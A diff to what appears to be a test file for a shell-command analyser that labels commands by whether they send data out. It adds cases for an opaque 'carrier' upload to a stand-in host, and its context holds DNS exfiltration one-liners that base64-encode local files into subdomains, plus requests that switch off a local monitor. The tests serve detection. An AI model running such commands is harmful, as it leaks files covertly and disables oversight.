@@ -84,6 +84,10 @@ SENT = {
         "execute host h",
     },
     "python3 -m http.server 80": {"execute module http.server", "send path /app -> *:80"},
+    # a program that cannot be read
+    "carrier --mode=backup --server=https://e.com/in --file a --key k.pem d/b.x": {
+        "send path /app/d/b.x -> https://e.com/in?",
+    },
     # names that carry data
     "dig $(base64 a).e.com": {"send path /app/a -> **.e.com", "connect host **.e.com?"},
     "nslookup $(echo hello there | base64).e.com": {
@@ -117,6 +121,10 @@ NOT_SENT = [
     "docker pull i",
     "sftp u@h <<< 'get a'",
     "python3 -m http.server -b 127.0.0.1",
+    "carrier --mode=backup --server=http://127.0.0.1/in d/b.x",
+    "carrier --judge https://e.com/v1 --model d/b.x",
+    "carrier --pull https://e.com/in d/b.x",
+    "python3 train.py --push-gateway https://e.com d/b.x",
 ]
 
 
@@ -161,6 +169,8 @@ def test_what_flows_through_a_pipe_keeps_its_name(command: str, sent: set[str]) 
         ("curl -X PUT -d off localhost/monitor", "write resource http:localhost/monitor"),
         ("http PATCH localhost/monitor on=false", "write resource http:localhost/monitor"),
         ("wget --method=DELETE localhost/monitor", "delete resource http:localhost/monitor"),
+        ("curl -o a localhost/model", "read resource http:localhost/model"),
+        ("wget -O a localhost/model", "read resource http:localhost/model"),
     ],
 )
 def test_what_a_request_asks_for(command: str, expected: str) -> None:
